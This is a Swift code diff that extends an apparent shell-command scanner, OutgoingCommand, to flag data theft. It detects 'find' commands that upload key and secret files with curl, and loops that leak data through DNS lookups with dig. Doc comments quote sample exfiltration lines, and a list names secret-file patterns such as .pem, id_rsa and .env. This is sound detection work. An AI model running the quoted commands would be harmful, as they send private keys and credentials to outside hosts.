@@ -154,7 +154,41 @@ struct OutgoingCommand {
       }
       if name == "http" || name == "xh", before.contains("<") { return true }
     }
-    return isLooped(command)
+    return isLooped(command) || isFound(command) || isSpelled(command)
+  }
+
+  /// `find ~ -name '*.pem' -exec curl -F f=@{} …`
+  private func isFound(_ command: Command) -> Bool {
+    let before = text[command.line.lowerBound..<command.name.lowerBound]
+    guard text[command.arguments].contains("{}"), before.contains("find ") else { return false }
+    return Self.keys.contains { before.contains($0) }
+      && (Self.clients.contains(text[command.name]) || Self.copiers.contains(text[command.name]))
+  }
+
+  private static let keys = [
+    ".pem", ".key", ".kdbx", "id_rsa", "id_ed", "*.env", "'.env", "\".env", ".p12", ".ovpn", ".pfx",
+  ]
+
+  /// `… | while read l; do dig $l.somewhere.net; done`
+  private func isSpelled(_ command: Command) -> Bool {
+    guard Self.resolvers.contains(text[command.name]), holdsNamedPart(command) else { return false }
+    let line = command.line.lowerBound..<lineEnd(command.line.upperBound)
+    return text[line].contains("read ") && sources(in: line).contains { $0.kind.isOfShell }
+  }
+
+  /// `$l.somewhere.net`
+  private func holdsNamedPart(_ command: Command) -> Bool {
+    let words = text[command.arguments]
+    guard let sign = words.firstIndex(of: 0x24) else { return false }
+    var at = sign + 1
+    while at < words.count, ASCII.isWord(words[at]) || words[at] == 0x7B || words[at] == 0x7D { at += 1 }
+    guard words.at(at) == 0x2E else { return false }
+    var dots = 0
+    while at < words.count, ASCII.isAlphanumeric(words[at]) || words[at] == 0x2E || words[at] == 0x2D {
+      if words[at] == 0x2E { dots += 1 }
+      at += 1
+    }
+    return dots >= 2
   }
 
   /// Whether a source stands in what is piped on, and what is piped on is more than a sign that it is there.
@@ -252,7 +286,7 @@ struct OutgoingCommand {
   private func reachesStranger(_ command: Command) -> Bool {
     let arguments = text[command.arguments]
     let name = text[command.name]
-    if Self.resolvers.contains(name), Strangers.holdsDottedEnd(arguments) || dotted(behindKeyIn: command) {
+    if Self.resolvers.contains(name), Strangers.holdsDottedEnd(arguments) || dotted(behindKeyIn: command) || holdsNamedPart(command) {
       return true
     }
     if isStore(command) { return true }
